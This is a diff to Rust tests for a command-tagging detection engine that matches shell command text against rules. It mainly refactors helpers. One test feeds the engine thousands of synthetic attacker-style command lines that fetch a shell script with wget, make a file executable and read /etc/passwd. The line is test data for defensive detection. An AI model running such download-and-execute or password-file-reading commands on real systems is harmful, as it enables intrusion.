@@ -372,41 +372,50 @@ mod tests {
     use crate::tagging::rules::RuleSet;
     use std::path::Path;
 
-    /// The engine (rule sets, end-of-text `$`, folded look-aheads, fall-back to the exact
-    /// regex on texts ending in a newline) fires exactly the rules whose faithful translation
-    /// matches.
-    #[test]
-    fn engine_fires_exactly_what_the_faithful_patterns_match() {
-        let rules: Vec<Arc<Rule>> = DIALECT_CASES
-            .iter()
+    /// Command rules `R0`, `R1`, … over `command_text`, one per pattern.
+    fn command_rules<'p>(patterns: impl IntoIterator<Item = &'p str>) -> Vec<Arc<Rule>> {
+        patterns
+            .into_iter()
             .enumerate()
-            .map(|(i, (pattern, _))| {
+            .map(|(i, pattern)| {
                 rule(&format!(
                     "rule_id: R{i}\nrule_version: 1\nname: n\napplies_to: [command]\n\
                      match: {{field: command_text, pattern: '{pattern}'}}\n\
                      emits: [{{tactic: TA1, technique_id: T1, confidence: 0.5}}]\n"
                 ))
             })
-            .collect();
+            .collect()
+    }
+
+    /// The ids of the rules that fire on a command typing `text`, in order.
+    fn fired(engine: &PatternEngine, text: &str, regex_errors: &mut u64) -> Vec<String> {
+        let mut payload = Map::new();
+        payload.insert("command_text".into(), Value::String(text.to_owned()));
+        engine
+            .evaluate("command", &payload, 0.0, regex_errors)
+            .iter()
+            .map(|f| f.rule.rule_id.clone())
+            .collect()
+    }
+
+    /// The engine (rule sets, end-of-text `$`, folded look-aheads, fall-back to the exact
+    /// regex on texts ending in a newline) fires exactly the rules whose faithful translation
+    /// matches.
+    #[test]
+    fn engine_fires_exactly_what_the_faithful_patterns_match() {
+        let rules = command_rules(DIALECT_CASES.iter().map(|(pattern, _)| *pattern));
         let references: Vec<_> = DIALECT_CASES.iter().map(|(p, _)| reference(p)).collect();
         let engine = PatternEngine::new(&rules);
         let mut errors = 0;
         for (_, tokens) in DIALECT_CASES {
             for text in token_strings(tokens, 4) {
-                let mut payload = Map::new();
-                payload.insert("command_text".into(), Value::String(text.clone()));
-                let fired: Vec<&str> = engine
-                    .evaluate("command", &payload, 0.0, &mut errors)
-                    .iter()
-                    .map(|f| f.rule.rule_id.as_str())
-                    .collect();
                 let want: Vec<&str> = rules
                     .iter()
                     .zip(&references)
                     .filter(|(_, re)| re.is_match(&text).unwrap_or(false))
                     .map(|(r, _)| r.rule_id.as_str())
                     .collect();
-                assert_eq!(fired, want, "{text:?}");
+                assert_eq!(fired(&engine, &text, &mut errors), want, "{text:?}");
             }
         }
         assert_eq!(errors, 0);
@@ -479,21 +488,13 @@ mod tests {
         let texts: Vec<String> = (0..3000)
             .map(|i| format!("cd /tmp/{i}; wget http://10.0.{}.{}/x{i}.sh; chmod +x x; uname -a; cat /etc/passwd | grep {i}", i % 7, i % 251))
             .collect();
-        let fire = |text: &str| {
-            let mut payload = Map::new();
-            payload.insert("command_text".into(), Value::String(text.to_owned()));
-            engine
-                .evaluate("command", &payload, 0.0, &mut 0)
-                .iter()
-                .map(|f| f.rule.rule_id.clone())
-                .collect::<Vec<_>>()
-        };
-        let before: Vec<_> = texts.iter().map(|t| fire(t)).collect();
+        let fire = |text: &String| fired(&engine, text, &mut 0);
+        let before: Vec<_> = texts.iter().map(fire).collect();
         let grown = engine.cache_bytes();
         assert!(grown > fresh, "{grown} after traffic, {fresh} fresh");
         engine.release_caches();
         assert_eq!(engine.cache_bytes(), fresh);
-        let after: Vec<_> = texts.iter().map(|t| fire(t)).collect();
+        let after: Vec<_> = texts.iter().map(fire).collect();
         assert_eq!(before, after);
         assert!(before.iter().any(|fired| fired.len() >= 3));
     }
@@ -503,30 +504,11 @@ mod tests {
     /// as in the `regex` crate.
     #[test]
     fn patterns_folding_into_ascii_are_searched_with_unicode() {
-        let rules: Vec<Arc<Rule>> = [r"(?i)\u212a", "(?i)\u{17f}", r"(?i)x\w"]
-            .iter()
-            .enumerate()
-            .map(|(i, pattern)| {
-                rule(&format!(
-                    "rule_id: R{i}\nrule_version: 1\nname: n\napplies_to: [command]\n\
-                     match: {{field: command_text, pattern: '{pattern}'}}\n\
-                     emits: [{{tactic: TA1, technique_id: T1, confidence: 0.5}}]\n"
-                ))
-            })
-            .collect();
-        let engine = PatternEngine::new(&rules);
+        let engine = PatternEngine::new(&command_rules([r"(?i)\u212a", "(?i)\u{17f}", r"(?i)x\w"]));
         let plan = &engine.plans["command"];
         let in_set: Vec<bool> = plan.rules.iter().map(|kr| kr.in_set.is_some()).collect();
         assert_eq!(in_set, [false, false, true]);
-        let fired = |text: &str| {
-            let mut payload = Map::new();
-            payload.insert("command_text".into(), Value::String(text.to_owned()));
-            engine
-                .evaluate("command", &payload, 0.0, &mut 0)
-                .iter()
-                .map(|f| f.rule.rule_id.clone())
-                .collect::<Vec<_>>()
-        };
+        let fired = |text: &str| fired(&engine, text, &mut 0);
         assert_eq!(fired("K"), ["R0"]);
         assert_eq!(fired("S x_"), ["R1", "R2"]);
         assert_eq!(fired("XY"), ["R2"]);
